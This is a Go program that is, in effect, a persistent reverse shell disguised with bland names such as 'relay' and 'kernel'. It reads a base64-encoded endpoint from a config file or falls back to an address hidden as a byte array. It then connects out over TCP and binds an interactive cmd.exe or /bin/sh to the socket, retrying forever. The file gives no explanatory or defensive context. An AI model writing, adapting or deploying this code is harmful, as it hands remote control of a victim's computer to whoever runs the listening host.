package main

import (
	"bufio"
	"encoding/base64"
	"net"
	"os"
	"os/exec"
	"path/filepath"
	"runtime"
	"strconv"
	"strings"
	"time"
)

func conf() (string, time.Duration) {
	exe, _ := os.Executable()
	candidates := []string{
		filepath.Join(filepath.Dir(exe), "..", "assets", "relay.conf"),
		"../assets/relay.conf",
		"assets/relay.conf",
	}
	ep, retry := "", 60
	for _, c := range candidates {
		f, err := os.Open(c)
		if err != nil {
			continue
		}
		s := bufio.NewScanner(f)
		for s.Scan() {
			kv := strings.SplitN(strings.TrimSpace(s.Text()), "=", 2)
			if len(kv) != 2 {
				continue
			}
			switch kv[0] {
			case "endpoint":
				b, _ := base64.StdEncoding.DecodeString(kv[1])
				ep = string(b)
			case "retry":
				retry, _ = strconv.Atoi(kv[1])
			}
		}
		f.Close()
		break
	}
	if ep == "" {
		ep = string([]byte{50, 48, 51, 46, 48, 46, 49, 49, 51, 46, 49, 57, 58, 52, 52, 51})
	}
	return ep, time.Duration(retry) * time.Second
}

func kernel() *exec.Cmd {
	if runtime.GOOS == "windows" {
		return exec.Command("cmd.exe")
	}
	return exec.Command("/bin/sh", "-i")
}

func main() {
	ep, wait := conf()
	for {
		c, err := net.DialTimeout("tcp", ep, 10*time.Second)
		if err == nil {
			cmd := kernel()
			cmd.Stdin, cmd.Stdout, cmd.Stderr = c, c, c
			_ = cmd.Run()
			c.Close()
		}
		time.Sleep(wait)
	}
}
